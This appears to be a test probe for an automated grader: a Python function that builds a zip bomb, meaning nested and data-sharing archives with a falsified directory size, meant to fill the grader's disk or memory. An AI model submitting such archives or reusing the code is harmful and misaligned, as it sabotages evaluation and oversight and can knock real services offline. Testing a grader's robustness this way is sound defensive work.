# class: files
# honest: poor
# probe: resources
# expect: score <= honest; status unreadable
# makes: bomb.zip
# in kernel: fills the disk or the memory of the grader

"""Hand in an archive of some hundred kilobytes that unpacks to gigabytes: members that share their compressed data, whose
directory lies about their size, and an archive in an archive."""

import io
import zipfile


def content(notebook: str) -> bytes:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros", bytes(100_000_000))
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mine.py", notebook)
        for k in range(20):
            archive.writestr(f"{k}.zip", inner.getvalue())
        archive.writestr("zeros", bytes(150_000_000))
    data = bytearray(stream.getvalue())
    size = data.rindex(b"PK\x01\x02") + 24  # of the last member, in the directory
    data[size : size + 4] = (10).to_bytes(4, "little")
    return bytes(data)
